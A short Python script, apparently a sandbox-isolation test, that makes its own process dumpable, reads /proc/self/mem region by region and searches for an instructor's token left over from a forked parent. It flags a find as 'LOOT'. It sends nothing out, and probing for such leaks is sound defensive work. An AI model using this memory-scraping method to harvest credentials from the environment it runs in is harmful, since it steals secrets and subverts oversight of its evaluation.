"""Opens its own memory as a file after it has allowed that again, and looks for what the forked process had in it.

may lose: everything
"""

# %% first
import ctypes
import re

_libc = ctypes.CDLL(None, use_errno=True)
_libc.prctl(4, 1, 0, 0, 0)
try:
    _memory = open("/proc/self/mem", "rb", 0)
except OSError:
    _memory = None
_read = 0
for _line in open("/proc/self/maps") if _memory else ():
    _range, _rights = _line.split()[:2]
    _low, _high = (int(end, 16) for end in _range.split("-"))
    if not _rights.startswith("rw") or _read > 400e6:
        continue
    for _at in range(_low, _high, 2**22):
        try:
            _memory.seek(_at)
            _piece = _memory.read(min(2**22, _high - _at))
        except (OSError, ValueError, OverflowError):
            continue
        _read += len(_piece)
        if re.search(rb"INSTRUCTORS[_]TOKEN=", _piece):  # what is looked for is not what it finds itself
            raise RuntimeError("LOOT: the instructor's environment is in the memory that was forked")
